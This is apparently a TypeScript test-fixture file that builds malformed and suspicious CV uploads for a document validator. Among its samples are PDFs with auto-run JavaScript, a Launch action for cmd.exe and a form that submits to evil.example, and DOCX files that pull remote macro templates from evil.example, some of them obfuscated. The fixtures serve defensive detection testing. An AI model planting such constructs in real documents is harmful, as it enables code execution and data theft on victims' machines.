import { readFileSync } from 'node:fs'
import path from 'node:path'
import { deflateSync } from 'node:zlib'
import type { ConsultationErrorCode } from '../../src/submissions/consultation/schema'
import type { CvRemark } from '../../src/domain/consultationFields'
import { oleOf, readCv, zipOf, type FormFile } from './consultationForms'
import { makeDocx, wordTypes } from './makeDocx'
import { makePdf } from './makePdf'

/** A file that must be refused, and with which words. */
export type RefusedCv = FormFile & { code: ConsultationErrorCode }

/** A file that must be taken, and what staff are told about it. */
export type OddCv = FormFile & { remarks: CvRemark[] }

const script = '<</S/JavaScript/JS(app.alert(1))>>'

/** Files that must be refused, each by what is wrong with it. */
export async function refusedCvs(): Promise<Record<string, RefusedCv>> {
  const start = (text: string) => Buffer.concat([Buffer.from(text, 'latin1'), Buffer.alloc(2000)])
  const files: Record<string, [ConsultationErrorCode, string, Buffer]> = {
    'a program': ['cv_type', 'cv.pdf', start('MZ\x90\x00')],
    'an HTML page': ['cv_web_page', 'cv.doc', Buffer.from('<html><body>CV</body></html>')],
    'an XHTML page': [
      'cv_web_page',
      'cv.doc',
      Buffer.from('\ufeff<?xml version="1.0"?>\n<!DOCTYPE html><html/>'),
    ],
    'a web page with its pictures': [
      'cv_web_page',
      'cv.doc',
      Buffer.from('MIME-Version: 1.0\nContent-Type: multipart/related; boundary="x"\n\n--x\n'),
    ],
    'a document in RTF': ['cv_rtf', 'cv.doc', Buffer.from('{\\rtf1\\ansi Asha}')],
    'a document in the XML of Word 2003': [
      'cv_word_xml',
      'cv.doc',
      Buffer.from(
        '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>',
      ),
    ],
    'a text file': ['cv_type', 'cv.pdf', Buffer.from('PDF-1.7 hello')],
    'a workbook of old': ['cv_type', 'cv.doc', oleOf({ Workbook: 'x'.repeat(5000) })],
    'a workbook': ['cv_type', 'cv.docx', await zipOf({ 'xl/workbook.xml': '<workbook/>' })],
    'an archive': ['cv_type', 'cv.docx', await zipOf({ 'readme.txt': 'hello' })],
    'a photo in JPEG': ['cv_picture', 'cv.jpg', start('\xff\xd8\xff\xe0')],
    'a photo of an iPhone': ['cv_picture', 'IMG_1.HEIC', start('\0\0\0\x18ftypheic')],
    'a screenshot under the name of a PDF': ['cv_picture', 'cv.pdf', start('\x89PNG\r\n\x1a\n')],
    'a DOCX with a password': [
      'cv_protected',
      'cv.docx',
      oleOf({ EncryptionInfo: 'x'.repeat(200), EncryptedPackage: 'x'.repeat(9000) }),
    ],
    'a DOCX with a password of its archive': [
      'cv_protected',
      'cv.docx',
      withArchivePassword(readCv('asha.docx')),
    ],
    ...Object.fromEntries(
      ['.doc', '.pdf', '-aes.pdf', '-of-pdf-2.pdf', '-of-attachment.pdf'].map((end) => [
        `password${end}`,
        ['cv_protected', `cv${path.extname(end)}`, readDocument(`password${end}`)],
      ]),
    ),
  }
  Object.assign(files, await damagedCvs(), restrictedCvs())
  return Object.fromEntries(
    Object.entries(files).map(([what, [code, name, bytes]]) => [what, { name, bytes, code }]),
  )
}

type Refusals = Record<string, [ConsultationErrorCode, string, Buffer]>

async function damagedCvs(): Promise<Refusals> {
  const [pdf, docx, doc] = [readCv('asha.pdf'), readCv('asha.docx'), readCv('priya.doc')]
  const half = (bytes: Buffer) => bytes.subarray(0, bytes.length / 2)
  const zeros = Buffer.concat([pdf.subarray(0, 500), Buffer.alloc(pdf.length - 500)])
  const main = (content: string) => makeDocx({ parts: { 'word/document.xml': content } })
  const broken = await main('</w:document><w:body><w:p/></w:body></w:document>')
  const withoutMain = await zipOf({ 'word/styles.xml': '<w:styles/>' })
  const files = {
    'a PDF cut in half': ['cv.pdf', half(pdf)],
    'the beginning of a PDF': ['cv.pdf', pdf.subarray(0, 2048)],
    'a PDF of zeros': ['cv.pdf', zeros],
    'a PDF without objects': ['cv.pdf', Buffer.from('%PDF-1.7\nhello\nstartxref\n0\n%%EOF\n')],
    'a DOCX cut in half': ['cv.docx', half(docx)],
    'a DOCX whose text is no XML': ['cv.docx', broken],
    'a DOCX whose text is empty': ['cv.docx', await main('')],
    'a DOCX without its text': ['cv.docx', withoutMain],
    'a DOC cut in half': ['cv.doc', half(doc)],
  } satisfies Record<string, [string, Buffer]>
  return Object.fromEntries(
    Object.entries(files).map(([what, [name, bytes]]) => [what, ['cv_damaged', name, bytes]]),
  ) as Refusals
}

function restrictedCvs(): Refusals {
  const text = 'x'.repeat(5000)
  const spaces = '/\u0006DataSpaces/TransformInfo'
  const encryption = '<</Filter/Adobe.PubSec/SubFilter/adbe.pkcs7.s5/V 5/R 131105/Recipients[]>>'
  return {
    'a DOC of a rights management': [
      'cv_restricted',
      'cv.doc',
      oleOf({ WordDocument: text, [`${spaces}/\tDRMTransform/\u0006Primary`]: text }),
    ],
    'a DOCX of a rights management': [
      'cv_restricted',
      'cv.docx',
      oleOf({ EncryptedPackage: text, [`${spaces}/DRMEncryptedTransform/\u0006Primary`]: text }),
    ],
    'a PDF of a rights management': [
      'cv_restricted',
      'cv.pdf',
      makePdf({
        objects: [
          '<</Type/Filespec/AFRelationship/EncryptedPayload/EP<</Type/EncryptedPayload/Subtype/Other>>>>',
        ],
      }),
    ],
    'a PDF encrypted for a certificate': [
      'cv_restricted',
      'cv.pdf',
      makePdf({ objects: [encryption], trailer: '/Encrypt 4 0 R/ID[<00><00>]' }),
    ],
  }
}

/** Files that must be taken, each by what is odd about it. */
export async function oddCvs(): Promise<Record<string, OddCv>> {
  return { ...oddPdfs(), ...(await oddDocx()), ...oddDocs() }
}

/** A document that another program made; `tests/fixtures/documents` says which. */
export function readDocument(name: string): Buffer {
  return readFileSync(path.join(import.meta.dirname, '..', 'fixtures', 'documents', name))
}

/** An object stream (ISO 32000-2, section 7.5.7) that holds one object. */
export function objectStream({
  content,
  dictionary = '/Filter/FlateDecode',
  encode = deflateSync,
}: {
  content: string | Buffer
  dictionary?: string
  encode?: (bytes: Buffer) => Buffer
}) {
  const head = Buffer.from('9 0 ')
  const stream = encode(Buffer.concat([head, Buffer.from(content)]))
  return {
    dictionary: `/Type/ObjStm/N 1/First ${head.length}/Length ${stream.length}${dictionary}`,
    stream,
  }
}

function oddPdfs(): Record<string, OddCv> {
  const genuine = readCv('asha.pdf')
  const withObject = (object: Parameters<typeof objectStream>[0]) =>
    makePdf({ objects: [objectStream(object)] })
  // With the four bytes before it, a mebibyte.
  const large = objectStream({ content: Buffer.alloc(1024 * 1024 - 4, ' ') })
  const hidden = `6 0 obj ${script} endobj`
  return named('cv.pdf', {
    'a PDF with a script when it is opened': [
      'script',
      makePdf({ catalog: `/OpenAction${script}` }),
    ],
    'a PDF with a script under an escaped name': [
      'script',
      makePdf({ catalog: '/OpenAction<</S/J#61vaS#63ript/#4aS(app.alert(1))>>' }),
    ],
    'a PDF with a script in compressed objects': ['script', withObject({ content: script })],
    'a PDF with a script in packed objects': [
      'script',
      withObject({ content: script, dictionary: '', encode: (bytes) => bytes }),
    ],
    'a PDF with a script in a stream of another object': [
      'script',
      makePdf({ objects: [{ dictionary: `/Length ${hidden.length}`, stream: hidden }] }),
    ],
    'a PDF that prints by itself': ['script', readDocument('prints-by-itself.pdf')],
    'a PDF with a program to start': [
      'launch',
      makePdf({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' }),
    ],
    'a PDF that sends its form': [
      'launch',
      makePdf({ objects: ['<</S/SubmitForm/F(https://evil.example)>>'] }),
    ],
    'a PDF with an attached program': [
      'embedded',
      makePdf({
        objects: [
          { dictionary: '/Type/EmbeddedFile/Length 2', stream: 'MZ' },
          '<</Type/Filespec/F(cv.exe)/UF(cv.exe)/EF<</F 4 0 R>>>>',
        ],
      }),
    ],
    'a PDF with its data attached': [
      'attachment',
      pdfWithFile({ name: 'data.xml', content: '<cv/>' }),
    ],
    'a PDF with a program called data attached': [
      'embedded',
      pdfWithFile({ name: 'data.xml', content: 'MZ..' }),
    ],
    'a PDF with a script attached': ['embedded', pdfWithFile({ name: 'cv.js', content: 'run()' })],
    'a PDF with a film player': [
      'embedded',
      makePdf({ objects: ['<</Type/Annot/Subtype/RichMedia>>'] }),
    ],
    'a PDF behind an HTML page': [
      'two_formats',
      Buffer.concat([Buffer.from('<html></html>\n'), genuine]),
    ],
    'a PDF with an archive behind its end': [
      'two_formats',
      Buffer.concat([genuine, readCv('asha.docx')]),
    ],
    'a PDF whose packed objects unfold to very much': [
      'oversized',
      makePdf({ objects: Array<typeof large>(33).fill(large) }),
    ],
  })
}

function pdfWithFile({ name, content }: { name: string; content: string }): Buffer {
  return makePdf({
    catalog: `/Names<</EmbeddedFiles<</Names[(${name}) 5 0 R]>>>>`,
    objects: [
      { dictionary: `/Type/EmbeddedFile/Length ${content.length}`, stream: content },
      `<</Type/Filespec/F(${name})/UF(${name})/EF<</F 4 0 R>>>>`,
    ],
  })
}

async function oddDocx(): Promise<Record<string, OddCv>> {
  const genuine = readCv('asha.docx')
  const link = (kind: string, target: string, isOutside = true) =>
    makeDocx({ links: [{ kind, target, isOutside }] })
  const template =
    'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'
  const written = `<?xml version="1.0"?><r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"><r:Relationship x:Type='/hyperlink' xmlns:x='x' Id='r' Type='${template}' Target='&#104;ttp&#58;//evil.example' TargetMode='External'/></r:Relationships>`
  return named('cv.docx', {
    'a DOCX with macros': ['macros', await makeDocx({ parts: { 'word/vbaProject.bin': 'macro' } })],
    'a DOCX with the type of macros': ['macros', await makeDocx({ type: wordTypes.withMacros })],
    'a DOCX with macros under another name': [
      'macros',
      await makeDocx({
        parts: { 'word/harmless.bin': 'macro' },
        links: [{ kind: 'vbaProject', target: 'harmless.bin' }],
      }),
    ],
    'a DOCX with a template of another place': [
      'external',
      await link('attachedTemplate', 'https://evil.example/t.dotm'),
    ],
    'a DOCX with a template on a shared disk': [
      'external',
      await link('attachedTemplate', '\\\\evil.example\\t.dotm'),
    ],
    'a DOCX with a template on a shared disk as an address': [
      'external',
      await link('attachedTemplate', 'file:///\\\\evil.example\\t.dotm'),
    ],
    'a DOCX with a template in disguise': ['external', await makeDocx({ relationships: written })],
    'a DOCX with a template in another encoding': [
      'external',
      await makeDocx({ relationships: Buffer.from(`\ufeff${written}`, 'utf16le') }),
    ],
    'a DOCX with a picture of the web': ['external', await link('image', 'https://evil.example/p')],
    'a DOCX with an embedded object': [
      'embedded',
      await link('oleObject', 'embeddings/oleObject1.bin', false),
    ],
    'a DOCX with an embedded workbook with macros': [
      'embedded',
      await makeDocx({ parts: { 'word/embeddings/x.xlsm': 'x' } }),
    ],
    'a DOCX that is a PDF as well': [
      'two_formats',
      await zipOf(
        { 'a.pdf': makePdf(), 'word/document.xml': '<w:document/>' },
        { compress: false },
      ),
    ],
    'a DOCX with something behind its end': [
      'unreadable',
      Buffer.concat([genuine, Buffer.from('<html></html>')]),
    ],
  })
}

function oddDocs(): Record<string, OddCv> {
  const genuine = readCv('priya.doc')
  const text = 'x'.repeat(5000)
  return named('cv.doc', {
    'a DOC with macros': ['macros', oleOf({ WordDocument: text, '/Macros/VBA/dir': text })],
    'a DOC with an embedded object': [
      'embedded',
      oleOf({ WordDocument: text, '/ObjectPool/_123/\u0001Ole10Native': 'MZ' }),
    ],
    'a DOC with an archive behind its end': [
      'two_formats',
      Buffer.concat([genuine, readCv('asha.docx')]),
    ],
  })
}

function named(
  name: string,
  files: Record<string, [remark: CvRemark, bytes: Buffer]>,
): Record<string, OddCv> {
  return Object.fromEntries(
    Object.entries(files).map(([what, [remark, bytes]]) => [
      what,
      { name, bytes, remarks: [remark] },
    ]),
  )
}

/** Every part is said to be encrypted. */
function withArchivePassword(bytes: Buffer): Buffer {
  const copy = Buffer.from(bytes)
  for (const [mark, flags] of [
    ['PK\x03\x04', 6],
    ['PK\x01\x02', 8],
  ] as const) {
    for (let at = copy.indexOf(mark); at !== -1; at = copy.indexOf(mark, at + 1)) {
      copy.writeUInt16LE(1, at + flags)
    }
  }
  return copy
}
